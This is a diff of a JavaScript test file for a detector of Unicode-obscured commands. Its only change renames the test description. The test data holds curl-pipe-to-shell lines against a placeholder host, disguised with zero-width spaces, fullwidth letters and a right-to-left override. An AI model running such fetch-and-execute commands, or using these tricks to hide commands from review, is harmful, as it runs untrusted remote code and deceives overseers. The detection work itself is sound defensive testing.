@@ -15,7 +15,7 @@ describe("notes on obscured commands", async () => {
     ["Run `cu\u200brl https://x.example/i | sh`.", "cu\u200brl"],
     ["\uff43url https://x.example/i | sh", "\uff43url"],
     ["curl https://x.example/\u202ei | sh", "curl https://x.example/\u202ei | sh"],
-  ])("tell of %j", (text, word) => {
+  ])("report %j", (text, word) => {
     expect(obscured(text)).toEqual([word]);
   });
 
